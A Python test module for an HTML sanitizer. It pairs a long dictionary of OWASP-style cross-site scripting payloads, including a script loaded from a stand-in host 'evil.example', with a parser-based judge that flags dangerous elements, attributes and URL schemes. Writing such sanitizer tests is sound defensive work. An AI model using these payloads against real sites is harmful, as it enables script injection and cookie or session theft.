"""What an attacker writes into a feed, in the manner of OWASP's filter evasion list, and a judge of what is left of it.

The judge reads HTML with the parsers of Python and lxml; it knows nothing of the sanitizer that it judges.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser

import lxml.html

PAYLOADS = {
    # script, in all spellings
    "script": "<script>alert(1)</script>",
    "script, mixed case": "<ScRiPt>alert(1)</sCrIpT>",
    "script with a source": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script, slash for a blank": '<script/x src="https://evil.example/x.js"></script>',
    "script, line breaks in the tag": "<script\n\t\r>alert(1)</script\n\t foo>",
    "script, never closed": "<script src=https://evil.example/x.js?",
    "script, end tag missing": "<script>alert(1)",
    "script inside script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script, brackets doubled": "<<script>alert(1);//<</script>",
    "script after a closed title": "</title><script>alert(1)</script>",
    "script after a closed textarea": "</textarea></xmp></noscript><script>alert(1)</script>",
    "script with a NUL in its name": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "script with a control character in its name": "<scr\x01ipt>alert(1)</scr\x01ipt>",
    "script after a form feed": "<script\x0c>alert(1)</script>",
    "script with a non-character in its name": "<scr\uffffipt>alert(1)</scr\uffffipt>",
    "script in wide brackets": "＜script＞alert(1)＜/script＞",
    "script in UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "script in overlong looking letters": "¼script¾alert(1)¼/script¾",
    "script escaped once": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "script escaped twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "script in numbers": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "script in numbers without semicolons": "&#x3Cscript&#x3Ealert(1)&#x3C/script&#x3E",
    "script in padded numbers": "&#0000060script&#0000062alert(1)",
    "script under a prefix": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    # event handlers
    "onerror": "<img src=x onerror=alert(1)>",
    "onerror, slashes for blanks": "<img/src=x/onerror=alert(1)>",
    "onerror, quotes run together": '<img src="x"onerror="alert(1)">',
    "onerror, backticks": "<img src=`x`onerror=`alert(1)`>",
    "onerror after a broken quote": '<img """><img src=x onerror=alert(1)>"',
    "onerror, upper case": "<IMG SRC=x ONERROR=alert(1)>",
    "onerror in entities": "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "onerror after a NUL": "<img src=x \x00onerror=alert(1)>",
    "onerror with a control character": "<img src=x on\x01error=alert(1)>",
    "onerror of image": "<image src=x onerror=alert(1)>",
    "onclick": "<p onclick='alert(1)'>x</p>",
    "onmouseover without a tag name": "<a onmouseover=alert(document.cookie)>x</a>",
    "ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "onload of body": "<body onload=alert(1)>",
    "onfocus with autofocus": "<b tabindex=1 onfocus=alert(1) autofocus>x</b>",
    "onanimationstart": '<b style="animation:x" onanimationstart=alert(1)>x</b>',
    "onstart of marquee": "<marquee onstart=alert(1)>x</marquee>",
    "onerror of video": "<video><source onerror=alert(1)></video>",
    "onerror of audio": "<audio src=x onerror=alert(1)>",
    "onbegin without a known event": "<b onunheardof=alert(1)>x</b>",
    "handler in an end tag": "<p>x</p onclick=alert(1)>",
    # addresses
    "javascript:": "<a href='javascript:alert(1)'>x</a>",
    "javascript: bare": "javascript:alert(1)",
    "javascript: bare, with a comment that looks like http": "javascript://news.example/%0Aalert(1)",
    "javascript: after blanks and in mixed case": "<a href=' \t JaVaScRiPt:alert(1)'>x</a>",
    "javascript: with a tab": "<a href='java\tscript:alert(1)'>x</a>",
    "javascript: with line breaks": "<a href='java\nscr\ript:alert(1)'>x</a>",
    "javascript: with an escaped tab": "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "javascript: with a named line break": "<a href='java&NewLine;script&colon;alert(1)'>x</a>",
    "javascript: with a NUL": "<a href='java\x00script:alert(1)'>x</a>",
    "javascript: with an escaped NUL": "<a href='java&#0;script:alert(1)'>x</a>",
    "javascript: with a control character": "<a href='java\x01script:alert(1)'>x</a>",
    "javascript: with an escaped control character": "<a href='java&#1;script:alert(1)'>x</a>",
    "javascript: with an escaped form feed": "<a href='java&#12;script:alert(1)'>x</a>",
    "javascript: with an escaped non-character": "<a href='java&#xFFFF;script:alert(1)'>x</a>",
    "javascript: with a blank": "<a href='java script:alert(1)'>x</a>",
    "javascript: after a control character": "<a href='&#14; javascript:alert(1)'>x</a>",
    "javascript: in decimal": "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "javascript: in padded decimal": "<a href='&#0000106&#0000097vascript:alert(1)'>x</a>",
    "javascript: in hexadecimal": "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>x</a>",
    "javascript: escaped twice": "<a href='java&amp;#1;script:alert(1)'>x</a>",
    "javascript: percent encoded": "<a href='javascript%3Aalert(1)'>x</a>",
    "javascript: in wide letters": "<a href='ｊavascript：alert(1)'>x</a>",
    "javascript: without quotes": "<a href=javascript:alert(1)>x</a>",
    "javascript: in backticks": "<a href=`javascript:alert(1)`>x</a>",
    "javascript: as an image": '<img src="javascript:alert(1)">',
    "javascript: as an image, with a control character": '<img src="java&#2;script:alert(1)">',
    "javascript: as a low source": "<img dynsrc='javascript:alert(1)' lowsrc='javascript:alert(1)'>",
    "javascript: as a background": "<table background='javascript:alert(1)'><td background='javascript:alert(1)'>x</table>",
    "javascript: as what is cited": "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "javascript: as what is cited, with a control character": "<q cite='java&#1;script:alert(1)'>x</q><del cite='javascript:1'>x</del>",
    "javascript: as a long description": "<img src=x longdesc='javascript:alert(1)'>",
    "javascript: in a map": "<map name=m><area shape=default href='javascript:alert(1)'></map><img usemap='#m' src=x>",
    "javascript: as a ping": "<a ping='javascript:alert(1)' href='https://evil.example/'>x</a>",
    "livescript:": "<a href='livescript:alert(1)'>x</a>",
    "vbscript:": "<a href='vbscript:msgbox(1)'>x</a>",
    "vbscript: with a control character": "<a href='vb&#31;script:msgbox(1)'>x</a>",
    "data: page": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "data: page in base64": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "data: drawing as an image": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "data: with a control character": "<a href='da&#127;ta&#3;:text/html,x'>x</a>",
    "data: bare": "data:text/html,<script>alert(1)</script>",
    "view-source:, blob:, file:": "<a href='view-source:x'>x</a><a href='blob:x'>x</a><a href='file:///etc/passwd'>x</a>",
    "feed: around javascript:": "<a href='feed:javascript:alert(1)'>x</a>",
    "srcset": "<img srcset='javascript:alert(1) 1x, https://evil.example/x 2x'>",
    # svg and math
    "svg onload": "<svg/onload=alert(1)>",
    "svg script": "<svg><script>alert&#40;1)</script></svg>",
    "svg script by xlink": '<svg><script xlink:href="data:,alert(1)"/></svg>',
    "svg use": '<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
    "svg link by xlink": '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "svg animate": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    "svg set": '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "svg foreignObject": "<svg><foreignObject><body onload='alert(1)'><iframe src='javascript:alert(1)'/></body></foreignObject></svg>",
    "svg style hides a tag": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "svg title hides a tag": '<svg></p><title><style></title><img src="x" onerror="alert(1)"></style></svg>',
    "math link": '<math href="javascript:alert(1)">x</math>',
    "math action": '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
    "math mutation": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "math table mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "math annotation": '<math><annotation-xml encoding="text/html"><svg onload=alert(1)></annotation-xml></math>',
    # styles
    "style": "<style>body{background:url(javascript:alert(1))}</style>",
    "style @import": "<style>@im\\port'https://evil.example/x.css';</style>",
    "style attribute": "<div style='background:url(javascript:alert(1))'>x</div>",
    "style expression": "<div style='xss:expr/**/ession(alert(1))'>x</div>",
    "style that covers the page": "<a style='position:fixed;inset:0;opacity:0' href='https://evil.example/'>x</a>",
    "style binding": "<p style='-moz-binding:url(https://evil.example/x.xml#x); behavior:url(x.htc)'>x</p>",
    "linked style sheet": "<link rel=stylesheet href='javascript:alert(1)'>",
    # elements that load, send or lead away
    "iframe": "<iframe src='javascript:alert(1)'></iframe>",
    "iframe srcdoc": "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "iframe never closed": "<iframe src=https://evil.example/ <",
    "frameset": "<frameset><frame src='javascript:alert(1)'></frameset>",
    "object": "<object data='javascript:alert(1)' type='text/html'></object>",
    "object with parameters": "<object classid=clsid:ae24><param name=url value=javascript:alert(1)></object>",
    "embed": "<embed src='https://evil.example/x.swf' allowscriptaccess=always>",
    "applet": "<applet code='x.class' archive='https://evil.example/x.jar'></applet>",
    "base": "<base href='javascript:alert(1)//'><a href='x'>x</a>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "meta policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "form": "<form action='javascript:alert(1)'><input type=submit name=a value=x></form>",
    "formaction of a button": "<form id=f></form><button form=f formaction='javascript:alert(1)'>x</button>",
    "formaction of an input": "<input type=image src=x formaction='javascript:alert(1)' onfocus=alert(1) autofocus>",
    "select and keygen": "<select autofocus onfocus=alert(1)><keygen autofocus onfocus=alert(1)>",
    "isindex": "<isindex action='javascript:alert(1)' type=image>",
    "imported page": "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "portal and fencedframe": "<portal src='https://evil.example/'></portal><fencedframe src='javascript:alert(1)'></fencedframe>",
    "dialog and popover": "<button popovertarget=x>x</button><dialog open id=x popover onbeforetoggle=alert(1)>x</dialog>",
    "own element": "<x-evil is='script' onclick=alert(1)>x</x-evil><b is='x-evil'>x</b>",
    "bgsound and layer": "<bgsound src='javascript:alert(1)'><layer src='https://evil.example/x.html'></layer>",
    "xml island": '<xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml><span datasrc="#x" dataformatas=html></span>',
    # raw text that turns into markup when it is read again
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "textarea": '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "title": '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    "xmp": '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
    "noembed": '<noembed><p title="</noembed><svg/onload=alert(1)>"></noembed>',
    "noframes": '<noframes><p title="</noframes><svg/onload=alert(1)>"></noframes>',
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "listing": "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "template": "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "template with a shadow root": "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    "title attribute with a tag": '<p title="&lt;img src=x onerror=alert(1)&gt;">x</p>',
    "alt attribute with a backtick": "<img src=x alt='``onerror=alert(1)'>",
    # CDATA, comments and instructions
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "CDATA that ends early": "]]><script>alert(1)</script><![CDATA[",
    "CDATA in svg": "<svg><![CDATA[><image xlink:href=']]><img src=x onerror=alert(1)//'></svg>",
    "comment closed at once": "<!--><img src=x onerror=alert(1)>-->",
    "comment with a dash": "<!---><script>alert(1)</script>-->",
    "comment closed with a bang": "<!-- --!><img src=x onerror=alert(1)> -->",
    "comment never closed": "<!-- <img src=x onerror=alert(1)>",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "bogus comment": "<!x><img src=x onerror=alert(1)><?x ><img src=x onerror=alert(1)>?>",
    "processing instruction": '<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>',
    "document type": '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]><p>&x;</p>',
    # half open
    "tag never closed": "<img src=x onerror=alert(1) ",
    "quote never closed": '<a href="javascript:alert(1)',
    "quote closed by another kind": "<img alt=\"<img src=x onerror=alert(1)>' src=x>",
    "dangling markup": "<img src='https://evil.example/?",
    "dangling base target": '<base target="',
    "breaking out of an attribute": "\" onmouseover=alert(1) x='",
    "breaking out of an attribute and a tag": "'\"></a><script>alert(1)</script>",
    "address with a quote in it": 'https://news.example/"onmouseover="alert(1)',
    "address with a tag in it": "https://news.example/<script>alert(1)</script>",
    # what others on the page rely on
    "clobbering by id and name": "<a id=document name=cookie href='tel:1'>x</a><img name=getElementById id=body src=x>",
    "new window without rel": "<a target=_blank href='https://evil.example/'>x</a>",
    "new window with rel=opener": "<a target=_blank rel=opener href='https://evil.example/'>x</a>",
    "classes of the page": "<div class='modal fullscreen' data-action='delete' aria-hidden=true slot=x>x</div>",
    "editable": "<div contenteditable accesskey=x draggable=true>x</div>",
    "download": "<a download=setup.exe href='https://evil.example/x'>x</a>",
    "right to left override": "<bdo dir=rtl>x</bdo>\u202e\u2066<script>alert(1)</script>",
    # Markdown, for what shows titles as such
    "Markdown link": "[x](javascript:alert(1))",
    "Markdown image": "![x](https://evil.example/track.png)",
    "Markdown autolink": "<javascript:alert(1)>",
    "Markdown reference": "[x]: javascript:alert(1)",
    "Markdown that ends a table": "x |\n\n<script>alert(1)</script>\n\n| y",
    "Markdown, escaped backwards": "\\<script\\>alert(1)\\</script\\> \\[x\\](javascript:alert(1))",
    "Markdown code": "`` ` `` <img src=x onerror=alert(1)> `",
    "Markdown with entities": "&#91;x&#93;&#40;javascript&#58;alert(1)&#41;",
}


def _words(text: str) -> frozenset[str]:
    return frozenset(text.split())


HARMLESS = _words(
    "a abbr acronym area article aside b bdi bdo blockquote br caption center cite code col colgroup data dd del details dfn div dl dt em "
    "figcaption figure footer h1 h2 h3 h4 h5 h6 header hgroup hr i img ins kbd li map mark nav ol p pre q rp rt rtc ruby s samp small span "
    "strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr"
)
HARMLESS_ATTRIBUTES = _words(
    "align alt char charoff colspan datetime dir headers height href hreflang lang rel rowspan scope size span src start summary title "
    "width"
)
_ADDRESSES = _words("action background cite data dynsrc formaction href longdesc lowsrc ping poster src srcset usemap")
_SCHEMES = _words("http https mailto tel magnet xmpp irc ircs news")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\xa0\xad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufffd-\uffff]")
_SCHEME = re.compile(r"([^/?#:]*):")


def faults(html: str) -> list[str]:
    """What in this HTML may run, load or lead away; [] when it is harmless. Two parsers look, as browsers differ too."""
    found: list[str] = []
    for name, attributes in (*_by_python(html), *_by_lxml(html)):
        if name not in HARMLESS:
            found.append(f"<{name}>")
        for attribute, value in attributes.items():
            found.extend(f"{fault} in <{name} {attribute}={value!r}>" for fault in _attribute_faults(attribute, value))
        if name == "a" and "href" in attributes and not {"noopener", "noreferrer"} <= set(attributes.get("rel", "").split()):
            found.append(f"a link that gives its page away: {attributes}")
    return found


def elements(html: str) -> list[str]:
    """The elements that a reader sees who takes this text for HTML; comments count."""
    return [name for name, _ in (*_by_python(html), *_by_lxml(html))]


def address_fault(address: str) -> str | None:
    """The scheme of an address as the most forgiving browser reads it, when it is none that only leads somewhere."""
    scheme = _SCHEME.match(_INVISIBLE.sub("", address))
    return None if scheme is None or scheme[1].lower() in _SCHEMES else f"scheme {scheme[1]!r}"


def _attribute_faults(name: str, value: str) -> Iterator[str]:
    if name not in HARMLESS_ATTRIBUTES:
        yield "attribute"
    if name.startswith("on") or name == "style":
        yield "code"
    if (name in _ADDRESSES or name.endswith(":href")) and (fault := address_fault(value)):
        yield fault


def _by_python(html: str) -> list[tuple[str, dict[str, str]]]:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag.lower(), {name.lower(): value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        self.found.append(("!--", {}))

    def handle_decl(self, decl: str) -> None:
        self.found.append(("!", {}))

    def handle_pi(self, data: str) -> None:
        self.found.append(("?", {}))

    def unknown_decl(self, data: str) -> None:
        self.found.append(("![", {}))


def _by_lxml(html: str) -> list[tuple[str, dict[str, str]]]:
    wrapper = lxml.html.fromstring(f"<html><body><div>{html}</div></body></html>")
    inside = list(wrapper.iter())[3:] if wrapper.tag == "html" else list(wrapper.iter())[1:]
    return [
        (each.tag.lower() if isinstance(each.tag, str) else "!--", {str(n).lower(): str(v) for n, v in each.attrib.items()})
        for each in inside
    ]
